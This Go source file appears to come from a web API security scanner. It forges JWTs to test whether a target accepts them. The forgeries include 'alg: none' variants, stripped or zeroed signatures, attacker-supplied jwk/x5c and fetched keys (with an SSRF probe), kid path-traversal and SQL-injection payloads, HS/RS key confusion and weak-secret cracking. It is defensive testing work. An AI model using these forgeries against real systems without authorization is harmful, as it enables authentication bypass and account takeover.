package foreign

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"strings"
	"time"

	"pavise.dev/pavise/internal/attack"
)

// tokens forges what an outsider can: only where the credential is a JWT.
func (p *planner) tokens() {
	if len(p.w.users) == 0 {
		return
	}
	for _, c := range []struct {
		rule string
		f    func(*try, *bearer) error
	}{
		{"jwt-none", (*try).unsigned},
		{"jwt-signature", (*try).unverified},
		{"jwt-key-of-the-caller", (*try).ownKeys},
		{"jwt-key-address", (*try).addressedKeys},
		{"jwt-kid", (*try).namedKeys},
		{"jwt-confusion", (*try).confused},
		{"jwt-weak-secret", (*try).guessed},
	} {
		for _, u := range p.w.users {
			p.add(c.rule, "token of "+u.Name, 0, func(t *try) error {
				b, err := t.bearer(u)
				if err != nil || b == nil || t.w.forged[c.rule] {
					return err
				}
				return c.f(t, b)
			})
		}
	}
	for _, u := range p.w.users {
		p.add("jwt-expired", "token of "+u.Name, 0, func(t *try) error { return t.life(u) })
	}
}

// bearer is a JWT, and an operation that it opens and nobody else does.
type bearer struct {
	*token

	user           *attack.User
	header, scheme string
	o              *operation
	g              *good
}

// bearer finds the JWT of a user; nil: there is none, or nothing that it opens, and no garbage
// does.
func (t *try) bearer(u *attack.User) (*bearer, error) {
	credential, err := t.credential(u)
	if err != nil {
		return nil, err
	}
	for header, values := range credential {
		scheme, value, hasScheme := strings.Cut(values[0], " ")
		if !hasScheme {
			scheme, value = "", values[0]
		}
		token := takeApart(value)
		if token == nil {
			continue
		}
		for _, o := range t.w.ops {
			if !o.protected || o.method != "GET" {
				continue
			}
			g, closed, err := t.closed(o, u)
			if t.ctx.Err() != nil {
				return nil, err
			}
			if err != nil || !closed {
				continue
			}
			b := &bearer{token, u, header, scheme, o, g}
			if a, err := t.sent(b, "pavise.e30.AAAA"); err == nil && !ok(a) {
				return b, nil
			}
		}
	}
	return nil, nil
}

// sent sends a token in the place of the right one.
func (t *try) sent(b *bearer, token string) (*attack.Answer, error) {
	d := b.g.d.clone()
	if b.scheme != "" {
		token = b.scheme + " " + token
	}
	d.header = d.header.Clone()
	if d.header == nil {
		d.header = http.Header{}
	}
	d.header.Set(b.header, token)
	return t.send(nil, d)
}

// forged is a token that was made, and how.
type forged struct {
	first, second, signature, what string

	proves bool // the signature is right, for a key that should not be taken
}

// broken is a signature of the same form that is wrong.
func broken(signature string) string {
	changed := []byte(signature)
	for i := range changed[:min(8, len(changed))] {
		changed[i] = map[bool]byte{true: 'B', false: 'A'}[changed[i] == 'A']
	}
	return string(changed)
}

// tried sends forged tokens, and reports the first that opens. The claims are the user's own, so
// that what is shown to paste takes them from the user's token.
func (t *try) tried(rule string, b *bearer, all ...forged) error {
	for _, f := range all {
		text := f.first + "." + f.second + "." + f.signature
		a, err := t.sent(b, text)
		if err != nil {
			return err
		}
		if !ok(a) {
			continue
		}
		if again, err := t.sent(b, text); err != nil || !ok(again) {
			return err
		}
		if f.proves { // with another signature it must be refused, or none is verified
			if control, err := t.sent(b, f.first+"."+f.second+"."+broken(f.signature)); err != nil || ok(control) {
				return err
			}
		}
		t.w.forged[rule] = true
		t.hideForged(b, f, text)
		t.found(b.o, a, "it answers %d to %s", a.Status, f.what)
		return nil
	}
	return nil
}

func (t *try) unsigned(b *bearer) error {
	var all []forged
	for _, alg := range []string{"none", "None", "NONE", "nOnE", ""} {
		head := b.headed(map[string]any{"alg": alg})
		what := fmt.Sprintf("a token with alg %q", alg)
		all = append(all, forged{head, b.second, "", what + " and no signature", false}, forged{head, b.second, b.signature, what, false})
	}
	return t.tried("jwt-none", b, all...)
}

func (t *try) unverified(b *bearer) error {
	return t.tried("jwt-signature", b,
		forged{b.first, b.second, broken(b.signature), "a token whose signature was changed", false},
		forged{b.first, b.second, "", "a token without its signature", false},
		forged{b.first, b.second, base64.RawURLEncoding.EncodeToString(make([]byte, 64)), "a token whose signature is zeros", false}, // CVE-2022-21449
	)
}

func (t *try) ownKeys(b *bearer) error {
	key, err := newOwnKey()
	if err != nil {
		return err
	}
	var all []forged
	for name, members := range map[string]map[string]any{
		"jwk": {"alg": "ES256", "jwk": key.public, "kid": nil}, "x5c": {"alg": "ES256", "x5c": []string{key.certificate}, "kid": nil}, "jwk and its kid": {"alg": "ES256", "jwk": key.public},
	} {
		head := b.headed(members)
		signature, err := key.sign(head + "." + b.second)
		if err != nil {
			return err
		}
		all = append(all, forged{head, b.second, signature, "a token that is signed with a key of ours, which it brings along as " + name, true})
	}
	return t.tried("jwt-key-of-the-caller", b, all...)
}

// addressedKeys has the key fetched from where the token says (RFC 7515 §4.1.2, §4.1.5): from an address
// that holds it itself (RFC 2397), and from one of ours, if there is one. Nothing else is named but where
// nobody listens.
func (t *try) addressedKeys(b *bearer) error {
	key, err := newOwnKey()
	if err != nil {
		return err
	}
	for _, from := range key.pages() {
		made := func(address string) (forged, error) {
			head := b.headed(map[string]any{"alg": "ES256", "kid": from.kid, from.member: address})
			signature, err := key.sign(head + "." + b.second)
			return forged{head, b.second, signature, "a token that is signed with a key of ours, fetched from where its " + from.member + " points", true}, err
		}
		addresses := []string{"data:" + from.media + ";base64," + base64.StdEncoding.EncodeToString(from.content)}
		if t.w.listener != nil {
			addresses = append(addresses, t.w.listener.Hold(from.media, from.content))
		}
		for _, address := range addresses {
			one, err := made(address)
			if err != nil {
				return err
			}
			if err := t.tried("jwt-key-address", b, one); err != nil || t.w.forged["jwt-key-address"] {
				return err
			}
		}
		_, err := t.connectsTo(b.o, "ssrf", "the "+from.member+" of a token", "pavise-attack:no-address", func(address string) (*attack.Answer, error) {
			one, err := made(address)
			if err != nil {
				return nil, err
			}
			text := one.first + "." + one.second + "." + one.signature
			t.hideForged(b, one, text)
			return t.sent(b, text)
		})
		if err != nil {
			return err
		}
	}
	return nil
}

// hideForged has a token that was made shown as what makes it of the user's own.
func (t *try) hideForged(b *bearer, f forged, text string) {
	if f.second == b.second {
		t.s.Hide(text, f.first+`.'"$(printf %s '<credential of `+b.user.Name+`>' | cut -d. -f2)"'.`+f.signature)
	}
}

// namedKeys names files and rows whose content is known as the key.
func (t *try) namedKeys(b *bearer) error {
	var all []forged
	for kid, key := range map[string]string{
		"../../../../../../../../dev/null": "", "/dev/null": "", "file:///dev/null": "", "x' UNION SELECT 'pavise' -- ": "pavise", "../../../../../../../../proc/sys/kernel/randomize_va_space": "2\n",
	} {
		head := b.headed(map[string]any{"alg": "HS256", "kid": kid})
		all = append(all, forged{head, b.second, hmacOf("HS256", []byte(key), head+"."+b.second), fmt.Sprintf("a token whose kid is %s, signed with what is there", kid), true})
	}
	return t.tried("jwt-kid", b, all...)
}

// confused signs with the published key as if it were a secret.
func (t *try) confused(b *bearer) error {
	if strings.HasPrefix(b.algorithm(), "HS") {
		return nil
	}
	var all []forged
	for _, path := range []string{"/.well-known/jwks.json", "/jwks.json", "/jwks", "/oauth/jwks", "/v1/jwks", "/keys"} {
		a, err := t.get(nil, path)
		if err != nil {
			return err
		}
		for _, secret := range publicTexts(jsonOf(a)) {
			head := b.headed(map[string]any{"alg": "HS256"})
			all = append(all, forged{head, b.second, hmacOf("HS256", secret, head+"."+b.second), "a token that is signed HS256 with the public key of " + path, true})
		}
	}
	return t.tried("jwt-confusion", b, all...)
}

// guessed finds the secret of a token without asking the target, and then proves it.
func (t *try) guessed(b *bearer) error {
	alg := b.algorithm()
	if alg != "HS256" && alg != "HS384" && alg != "HS512" {
		return nil
	}
	for _, secret := range weakSecrets() {
		if hmacOf(alg, []byte(secret), b.first+"."+b.second) != b.signature {
			continue
		}
		head := b.headed(map[string]any{"alg": alg, "pavise": "attack"})
		return t.tried("jwt-weak-secret", b, forged{head, b.second, hmacOf(alg, []byte(secret), head+"."+b.second), "a token that we signed: its secret is one of a list of known ones", true})
	}
	return nil
}

// maxLife is how long a token may live without being told of.
const maxLife = 24 * time.Hour

// life looks at when the user's own token ends.
func (t *try) life(u *attack.User) error {
	b, err := t.bearer(u)
	if err != nil || b == nil {
		return err
	}
	issued, _ := b.claims["iat"].(float64)
	ends := b.ends()
	if !ends.IsZero() && ends.Before(dateOf(b.g.a)) {
		a, err := t.send(b.user, b.g.d)
		if err != nil {
			return err
		}
		if ok(a) {
			t.found(b.o, a, "it answers %d to a token that expired at %s", a.Status, ends.UTC().Format(time.RFC3339))
		}
	}
	switch {
	case ends.IsZero():
		t.s.Under(ruleOf("jwt-long-lived"), func(s *attack.Session) {
			s.Found(b.o.String(), b.g.a, "the token has no exp; it answers %d", b.g.a.Status)
		})
	case issued > 0 && ends.Sub(time.Unix(int64(issued), 0)) > maxLife:
		t.s.Under(ruleOf("jwt-long-lived"), func(s *attack.Session) {
			s.Found(b.o.String(), b.g.a, "the token lives for %s; it answers %d", ends.Sub(time.Unix(int64(issued), 0)), b.g.a.Status)
		})
	}
	return nil
}

// dateOf is the target's own time of an answer, a minute earlier: clocks differ. A target that tells
// none expires nothing.
func dateOf(a *attack.Answer) time.Time {
	date, err := http.ParseTime(a.Header.Get("Date"))
	if err != nil {
		return time.Time{}
	}
	return date.Add(-time.Minute)
}
